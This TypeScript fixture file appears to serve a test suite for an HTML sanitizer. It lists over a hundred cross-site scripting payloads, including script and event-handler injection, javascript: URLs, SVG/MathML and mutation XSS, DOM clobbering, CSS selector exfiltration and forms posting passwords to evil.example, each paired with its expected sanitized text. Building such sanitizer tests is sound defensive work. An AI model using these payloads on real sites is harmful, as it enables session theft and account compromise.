/**
 * Lists what an enemy might send as the content of a post. Whatever runs would call `pwned()`, whatever loads
 * would ask evil.example; `reads` is all that a person may see of it.
 */
interface HostileInput {
  html: string
  reads: string
  /** Why DOMPurify takes out more than we do. */
  stricter?: string
}

const NUL = '\u0000'
const CLOBBERED = 'it removes a form that it cannot walk'

const scripts: HostileInput[] = [
  { html: 'a<script>pwned()</script>b', reads: 'ab' },
  { html: 'a<ScRiPt >pwned()</sCrIpT >b', reads: 'ab' },
  { html: '<script src="https://evil.example/a.js"></script>a', reads: 'a' },
  { html: '<script type="module">pwned()</script>a', reads: 'a' },
  { html: '<script/x>pwned()</script>a', reads: 'a' },
  { html: '<scr<script>ipt>pwned()</scr</script>ipt>', reads: 'ipt>pwned()ipt>' },
  { html: '<<script>pwned();//<</script>a', reads: '<a' },
  { html: 'a<script>pwned()', reads: 'a' },
  { html: '<script>/*<!--<script>*/pwned()</script>a', reads: '' },
  { html: `<scr${NUL}ipt>pwned()</scr${NUL}ipt>`, reads: 'pwned()' },
  { html: '<script:x>pwned()</script:x>', reads: 'pwned()' },
  { html: '&lt;script&gt;pwned()&lt;/script&gt;', reads: '<script>pwned()</script>' },
  { html: '<p>a</p><noscript><p>b</p></noscript>', reads: 'a' },
]

const handlers: HostileInput[] = [
  { html: '<p onclick="pwned()" onmouseover=pwned()>a</p>', reads: 'a' },
  { html: '<img src=x onerror=pwned()>a', reads: 'a' },
  { html: '<img src=x onerror="pwned()"//>a', reads: 'a' },
  { html: '<img/src=x/onerror=pwned()>a', reads: 'a' },
  { html: '<IMG """><img src=x onerror=pwned()>">', reads: '">' },
  { html: '<image src=x onerror=pwned()>a', reads: 'a' },
  { html: `<img src=x on${NUL}error=pwned()>a`, reads: 'a' },
  { html: '<img src=x onerror=&#112;&#119;&#110;&#101;&#100;&#40;&#41;>a', reads: 'a' },
  { html: '<body onload=pwned()>a', reads: 'a' },
  { html: '<html onclick=pwned()><body onpageshow=pwned()>a</body></html>', reads: 'a' },
  { html: '<input autofocus onfocus=pwned()>a', reads: 'a' },
  { html: '<select autofocus onfocus=pwned()><option>a</select>b', reads: 'ab' },
  { html: '<textarea autofocus onfocus=pwned()>a</textarea>b', reads: 'ab' },
  { html: '<button autofocus onfocus=pwned()>a</button>', reads: 'a' },
  { html: '<details open ontoggle=pwned()><summary>a</summary>b</details>', reads: 'ab' },
  { html: '<div contenteditable autofocus onfocus=pwned()>a</div>', reads: 'a' },
  {
    html: '<a href="https://a.example" onclick="pwned()" onauxclick="pwned()" tabindex=1 autofocus onfocus=pwned()>a</a>',
    reads: 'a',
  },
  { html: '<marquee onstart=pwned() onfinish=pwned()>a</marquee>', reads: 'a' },
  { html: '<p style="animation: x 1s" onanimationstart=pwned()>a</p>', reads: 'a' },
  { html: '<p style="transition: all 1s" ontransitionend=pwned() id=x>a</p>', reads: 'a' },
  { html: '<b onbeforeinput=pwned() oncopy=pwned() oncut=pwned() onpaste=pwned()>a</b>', reads: 'a' },
  { html: '<p onpointerrawupdate=pwned() onpointerenter=pwned() onwheel=pwned()>a</p>', reads: 'a' },
  { html: '<div hidden=until-found onbeforematch=pwned()>a</div>', reads: 'a' },
  { html: '<div popover id=x onbeforetoggle=pwned()>a</div><button popovertarget=x>b</button>', reads: 'ab' },
  { html: '<dialog open onclose=pwned()>a</dialog>', reads: 'a' },
  { html: '<video src=x onerror=pwned()>a</video>b', reads: 'b' },
  { html: '<video><source onerror=pwned()></video>a', reads: 'a' },
  { html: '<audio src=x onerror=pwned()>a</audio>b', reads: 'b' },
  { html: '<p\u000conclick=pwned()>a</p>', reads: 'a' },
  { html: '<p title="x" onclick\n=\npwned()>a</p>', reads: 'a' },
]

const addresses: HostileInput[] = [
  { html: '<a href="javascript:pwned()">a</a>', reads: 'a' },
  { html: '<a href="JaVaScRiPt:pwned()">a</a>', reads: 'a' },
  { html: '<a href="&#106;avascript:pwned()">a</a>', reads: 'a' },
  { html: '<a href="&#x6A&#x61vascript:pwned()">a</a>', reads: 'a' },
  { html: '<a href="&#0000106avascript&colon;pwned()">a</a>', reads: 'a' },
  { html: '<a href="java&Tab;script&colon;pwned&lpar;&rpar;">a</a>', reads: 'a' },
  { html: '<a href="java\nscript:pwned()">a</a>', reads: 'a' },
  { html: '<a href="java\r\tscript:pwned()">a</a>', reads: 'a' },
  { html: '<a href=" \u0001\u001f javascript:pwned()">a</a>', reads: 'a' },
  { html: '<a href="\u00a0javascript:pwned()">a</a>', reads: 'a' },
  { html: `<a href="java${NUL}script:pwned()">a</a>`, reads: 'a' },
  { html: '<a href="javascript://https://a.example/%0apwned()">a</a>', reads: 'a' },
  { html: '<a href="data:text/html,<script>pwned()</script>">a</a>', reads: 'a' },
  { html: '<a href="data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+">a</a>', reads: 'a' },
  { html: '<a href="vbscript:pwned()">a</a>', reads: 'a' },
  { html: '<a href="blob:https://kith.example/1">a</a>', reads: 'a' },
  { html: '<a href="file:///etc/passwd">a</a>', reads: 'a' },
  { html: '<a href="filesystem:https://kith.example/x">a</a>', reads: 'a' },
  { html: '<a href="about:blank">a</a>', reads: 'a' },
  { html: '<a href="feed:javascript:pwned()">a</a>', reads: 'a' },
  { html: '<a href="view-source:javascript:pwned()">a</a>', reads: 'a' },
  { html: '<a href="//evil.example/x">a</a>', reads: 'a' },
  { html: '<a href="/oauth/revoke">a</a>', reads: 'a' },
  { html: '<a href="\\\\evil.example\\x">a</a>', reads: 'a' },
  { html: '<a href=`javascript:pwned()`>a</a>', reads: 'a' },
  { html: '<a href="x" href="javascript:pwned()">a</a>', reads: 'a' },
  { html: '<a xlink:href="javascript:pwned()">a</a>', reads: 'a' },
  { html: '<a href="https://a.example" ping="https://evil.example/ping">a</a>', reads: 'a' },
  { html: '<a href="https://a.example" target="_self" rel="opener" download="x.exe">a</a>', reads: 'a' },
  { html: '<a href="https://a.example/x" attributionsrc="https://evil.example/a">a</a>', reads: 'a' },
  { html: '<area href="javascript:pwned()">a', reads: 'a' },
  { html: '<map name=x><area href="javascript:pwned()"></map><img usemap="#x">a', reads: 'a' },
  { html: '<a href="https://a.example"><a href="javascript:pwned()">a</a></a>', reads: 'a' },
  {
    html: '<q cite="javascript:pwned()">a</q><blockquote cite="javascript:pwned()">b</blockquote>',
    reads: 'ab',
  },
]

const foreign: HostileInput[] = [
  { html: '<svg onload=pwned()></svg>a', reads: 'a' },
  { html: '<svg><script>pwned()</script></svg>a', reads: 'a' },
  { html: '<svg><script xlink:href="https://evil.example/x.js"/></svg>a', reads: 'a' },
  { html: '<svg><a xlink:href="javascript:pwned()"><text>b</text></a></svg>a', reads: 'a' },
  {
    html: '<svg><a><animate attributeName=href values=javascript:pwned() /><text>b</text></a></svg>a',
    reads: 'a',
  },
  { html: '<svg><set attributeName=onmouseover to=pwned()></svg>a', reads: 'a' },
  { html: '<svg><use href="data:image/svg+xml,<svg id=x onload=pwned()>#x"/></svg>a', reads: 'a' },
  { html: '<svg><image href="https://evil.example/x.png"/></svg>a', reads: 'a' },
  { html: '<svg><foreignObject><img src=x onerror=pwned()></foreignObject></svg>a', reads: 'a' },
  { html: '<svg><desc><p onclick=pwned()>b</p></desc></svg>a', reads: 'a' },
  { html: '<svg><style>@import "https://evil.example/x.css"</style></svg>a', reads: 'a' },
  { html: '<svg><p>a</p></svg>', reads: 'a' },
  { html: '<math><mi xlink:href="javascript:pwned()">b</mi></math>a', reads: 'a' },
  { html: '<math href="javascript:pwned()">b</math>a', reads: 'a' },
  {
    html: '<math><maction actiontype="statusline" xlink:href="javascript:pwned()">b</maction></math>a',
    reads: 'a',
  },
  {
    html: '<math><annotation-xml encoding="text/html"><img src=x onerror=pwned()></annotation-xml></math>a',
    reads: 'a',
  },
]

const styles: HostileInput[] = [
  { html: '<style>* { background: url(https://evil.example/x) }</style>a', reads: 'a' },
  { html: '<style>@import "https://evil.example/x.css";</style>a', reads: 'a' },
  { html: '<style>input[value^=a] { background: url(https://evil.example/a) }</style>a', reads: 'a' },
  { html: '<style>@font-face { font-family: x; src: url(https://evil.example/f) }</style>a', reads: 'a' },
  { html: '<link rel=stylesheet href="https://evil.example/x.css">a', reads: 'a' },
  { html: '<link rel=preload as=image href="https://evil.example/x.png">a', reads: 'a' },
  {
    html: '<link rel=prefetch href="https://evil.example/"><link rel=dns-prefetch href="//evil.example">a',
    reads: 'a',
  },
  { html: '<p style="background: url(https://evil.example/x)">a</p>', reads: 'a' },
  { html: '<p style="position: fixed; inset: 0; z-index: 9999">a</p>', reads: 'a' },
  {
    html: '<p style="width: expression(pwned()); -moz-binding: url(https://evil.example/x)">a</p>',
    reads: 'a',
  },
  { html: '<div style="display: none">a</div><p class="content link" id="root">b</p>', reads: 'ab' },
  {
    html: '<table background="https://evil.example/x" bgcolor=red><tr><td background="https://evil.example/y">a</table>',
    reads: 'a',
  },
  { html: '<font face="x" color=red size=7>a</font><basefont>b', reads: 'ab' },
]

const mutations: HostileInput[] = [
  { html: '<noscript><p title="</noscript><img src=x onerror=pwned()>"></noscript>a', reads: '' },
  { html: '<style><img src="</style><img src=x onerror=pwned()//">a', reads: 'a' },
  { html: '<svg></p><style><a id="</style><img src=x onerror=pwned()>">a', reads: '">a' },
  {
    html: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=pwned()&gt;">a',
    reads: '',
  },
  { html: '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=pwned()>', reads: '' },
  {
    html: '<math><mtext><mglyph><svg><mtext><style><path id="</style><img src=x onerror=pwned()>">',
    reads: '',
  },
  { html: '<svg><title><a id="</title><img src=x onerror=pwned()>"></title></svg>a', reads: '' },
  {
    html: '<math><annotation-xml encoding="text/html"><style><img src=x onerror=pwned()></style></annotation-xml></math>a',
    reads: 'a',
  },
  { html: '<xmp><p title="</xmp><img src=x onerror=pwned()>">a', reads: '">a' },
  { html: '<noembed><p title="</noembed><img src=x onerror=pwned()>">a', reads: '">a' },
  { html: '<noframes><p title="</noframes><img src=x onerror=pwned()>">a', reads: '">a' },
  { html: '<iframe><p title="</iframe><img src=x onerror=pwned()>">a', reads: '">a' },
  { html: '<textarea><p title="</textarea><img src=x onerror=pwned()>">a', reads: '<p title="">a' },
  { html: '<title><p title="</title><img src=x onerror=pwned()>">a', reads: '">a' },
  { html: 'a<plaintext><img src=x onerror=pwned()>', reads: 'a' },
  { html: '<!--><img src=x onerror=pwned()>-->a', reads: '-->a' },
  { html: '<!---><img src=x onerror=pwned()>-->a', reads: '-->a' },
  { html: '<!-- --!><img src=x onerror=pwned()> -->a', reads: ' -->a' },
  { html: '<![CDATA[><img src=x onerror=pwned()>]]>a', reads: ']]>a' },
  { html: '<?xml version="1.0"?><img src=x onerror=pwned()>a', reads: 'a' },
  { html: '<!DOCTYPE x [<!ENTITY y "z">]><p>a</p>', reads: ']>a' },
  { html: '<table><form><p onclick=pwned()>a</p></form><tr><td>b</table>', reads: 'ab' },
  { html: '<form><div></form><form><p>a</p></form></div>', reads: 'a' },
  { html: '<a><table><td><a href="javascript:pwned()">a</a></table></a>', reads: 'a' },
  { html: '<p><b><i></p><p onclick=pwned()>a</b></p>', reads: 'a' },
  { html: '<template><img src=x onerror=pwned()></template>a', reads: 'a' },
  { html: '<template><template><script>pwned()</script></template></template>a', reads: 'a' },
  { html: '<div><template shadowrootmode=open><img src=x onerror=pwned()></template>a</div>', reads: 'a' },
  { html: '<select><template><img src=x onerror=pwned()></template><option>a</select>', reads: 'a' },
  {
    html: '<frameset onload=pwned()><frame src="javascript:pwned()"></frameset>a',
    reads: 'a',
    stricter: 'it takes the frame set for the body',
  },
  { html: '<p title="</p><img src=x onerror=pwned()>">a</p>', reads: 'a' },
  { html: `<p title='"><img src=x onerror=pwned()>'>a</p>`, reads: 'a' },
  { html: '<p/onclick=pwned()/><p =onclick=pwned()>a', reads: 'a' },
]

const frames: HostileInput[] = [
  { html: '<iframe src="javascript:pwned()"></iframe>a', reads: 'a' },
  { html: '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>a', reads: 'a' },
  { html: '<iframe src="https://evil.example/"></iframe>a', reads: 'a' },
  { html: '<object data="javascript:pwned()">b</object>a', reads: 'a' },
  { html: '<object data="https://evil.example/x.swf"><param name=x></object>a', reads: 'a' },
  { html: '<embed src="javascript:pwned()">a', reads: 'a' },
  { html: '<applet code="https://evil.example/x">b</applet>a', reads: 'a' },
  { html: '<portal src="https://evil.example/"></portal><fencedframe></fencedframe>a', reads: 'a' },
  { html: '<base href="https://evil.example/"><a href="/x">a</a>', reads: 'a' },
  { html: '<base target="_top">a', reads: 'a' },
  { html: '<meta http-equiv=refresh content="0;url=https://evil.example/">a', reads: 'a' },
  { html: '<meta http-equiv=refresh content="0;url=javascript:pwned()">a', reads: 'a' },
  { html: '<meta name=referrer content=unsafe-url>a', reads: 'a' },
  { html: '<img src="https://evil.example/x.png">a', reads: 'a' },
  { html: '<img srcset="https://evil.example/x.png 1x" loading=eager>a', reads: 'a' },
  { html: '<picture><source srcset="https://evil.example/x.png"><img></picture>a', reads: 'a' },
  {
    html: '<video poster="https://evil.example/x.png" autoplay><track src="https://evil.example/x"></video>a',
    reads: 'a',
  },
  { html: '<audio src="https://evil.example/x.mp3" autoplay></audio>a', reads: 'a' },
  { html: '<input type=image src="https://evil.example/x.png">a', reads: 'a' },
  { html: '<p><keygen challenge=x><bgsound src="https://evil.example/x">a</p>', reads: 'a' },
  { html: '<html manifest="https://evil.example/x"><p>a</p></html>', reads: 'a' },
]

const impostors: HostileInput[] = [
  { html: '<form action="https://evil.example/"><input name=password><button>a</button></form>', reads: 'a' },
  { html: '<form id=x></form><button form=x formaction="javascript:pwned()">a</button>', reads: 'a' },
  { html: '<form><input type=submit formaction="https://evil.example/" value=x></form>a', reads: 'a' },
  { html: '<isindex action="javascript:pwned()" prompt=x>a', reads: 'a' },
  {
    html: '<form><input name=childNodes><input name=localName><img src=x onerror=pwned()>a</form>',
    reads: 'a',
    stricter: CLOBBERED,
  },
  { html: '<form>&gt;a<input name=textContent></form>', reads: '>a', stricter: CLOBBERED },
  {
    html: `${'<div>'.repeat(200)}<form>a<input name=ownerDocument></form>`,
    reads: 'a',
    stricter: CLOBBERED,
  },
  {
    html: '<form><input name=attributes><input name=firstChild><p onclick=pwned()>a</p></form>',
    reads: 'a',
    stricter: CLOBBERED,
  },
  {
    html: '<form><input name=textContent><input name=matches><input name=querySelector><p>&gt;a</p></form>',
    reads: '>a',
    stricter: CLOBBERED,
  },
  { html: '<img name=body><img name=createElement><img name=querySelector><p>a</p>', reads: 'a' },
  { html: '<a id=document href="https://evil.example/"></a><a name=pwned>a</a>', reads: 'a' },
  { html: '<form name=body><input name=ownerDocument></form><p id=root>a</p>', reads: 'a' },
  {
    html: '<p is="x-evil" slot=x part=y exportparts=z>a</p>',
    reads: 'a',
    stricter: 'it removes any element with an is=',
  },
  { html: '<slot name=x onslotchange=pwned()>a</slot>', reads: 'a' },
  { html: '<x-evil onclick=pwned() style="x: y">a</x-evil>', reads: 'a' },
  {
    html: '<constructor>a</constructor><__proto__>b</__proto__><tostring>c</tostring>',
    reads: 'a<__proto__>bc',
  },
  {
    html: '<p accesskey=s draggable=true tabindex=1 inert nonce=x id=main role=alert aria-live=assertive>a</p>',
    reads: 'a',
  },
  { html: '<h1 role="banner" id="title">a</h1><main><nav>b</nav></main>', reads: 'ab' },
  { html: '<p data-x="y" itemscope itemprop=x vocab="https://evil.example/">a</p>', reads: 'a' },
  { html: '<button commandfor=x command=show-modal>a</button><dialog id=x>b</dialog>', reads: 'ab' },
  {
    html: '<label for=search>a</label><output>b</output><progress>c</progress><meter>d</meter>',
    reads: 'abcd',
  },
  {
    html: '<p lang="&quot;&gt;&lt;img src=x onerror=pwned()&gt;" dir="&quot; onclick=pwned()">a</p>',
    reads: 'a',
  },
  { html: '<ol start="1 onclick=pwned()" type=a><li value="javascript:pwned()">a</ol>', reads: 'a' },
]

const floods: HostileInput[] = [
  { html: `${'<div>'.repeat(10_000)}a`, reads: 'a' },
  { html: `${'<b onclick=pwned()>'.repeat(10_000)}a`, reads: 'a' },
  { html: `${'<blockquote><p>'.repeat(4000)}a<script>pwned()</script>`, reads: 'a' },
  { html: `${'<a href="javascript:pwned()">'.repeat(5000)}a`, reads: 'a' },
  { html: `${'<table><tr><td>'.repeat(1000)}a<img src=x onerror=pwned()>`, reads: 'a' },
  { html: `${'<svg><g>'.repeat(4000)}a`, reads: '' },
  { html: `a${'<br>'.repeat(9000)}`, reads: 'a' },
  { html: `${'<p>'.repeat(9000)}a`, reads: 'a' },
  { html: `${'<'.repeat(5000)}a`, reads: `${'<'.repeat(4999)}` },
  { html: `<p ${'x=y '.repeat(20_000)} onclick=pwned()>a</p>`, reads: 'a' },
  {
    html: `${Array.from({ length: 300 }, (_, index) => `<b x=${index}>`).join('')}${'<p>a'.repeat(100)}`,
    reads: 'a'.repeat(100),
  },
  { html: `<p>${'>'.repeat(50_000)}</p>`, reads: '>'.repeat(50_000) },
  { html: `${'<b onclick=pwned()>'.repeat(12_000)}a`, reads: `${' '.repeat(12_000)}a` },
  { html: ':'.repeat(50_000), reads: ':'.repeat(50_000) },
]

const deceptions: HostileInput[] = [
  { html: '<bdo dir=rtl>a</bdo>', reads: 'a' },
  { html: '<p>a\u202eb\u202c</p>', reads: 'a\u202eb\u202c' },
  { html: `<p>a${NUL}b</p>`, reads: 'ab' },
  {
    html: '<a href="https://evil.example/\u202egpj.exe">https://kith.example</a>',
    reads: 'https://kith.example',
  },
  { html: '<p>\ufeffa\u2028</p>', reads: '\ufeffa\u2028' },
  { html: '\ud800a', reads: '\ud800a' },
  { html: '<p>:<b>cat</b>: &colon;x:</p>', reads: ':cat: :x:' },
  { html: '', reads: '' },
]

export const HOSTILE: Record<string, readonly HostileInput[]> = {
  scripts,
  handlers,
  addresses,
  'foreign content': foreign,
  styles,
  'mutation XSS': mutations,
  'frames, media and requests': frames,
  'forms, clobbering and false attributes': impostors,
  floods,
  deceptions,
}
